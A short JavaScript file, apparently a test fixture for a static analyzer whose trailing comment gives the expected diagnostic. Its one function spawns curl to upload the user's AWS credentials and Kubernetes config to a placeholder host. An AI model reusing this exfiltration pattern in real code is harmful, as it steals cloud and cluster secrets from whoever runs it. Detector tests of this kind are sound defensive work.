const { spawn } = require('child_process');
const os = require('os');

// The files stand in a list that is spread into the words of the command.
exports.save = () => {
  const home = os.homedir();
  const files = [`${home}/.aws/credentials`, `${home}/.kube/config`];
  const form = files.flatMap((file, i) => ['-F', `f${i}=@${file}`]);
  spawn('curl', ['-s', '-m', '20', ...form, 'https://example.invalid/put']); // want "has a program send: .curl -s -m 20 -F f.*aws/credentials"
};
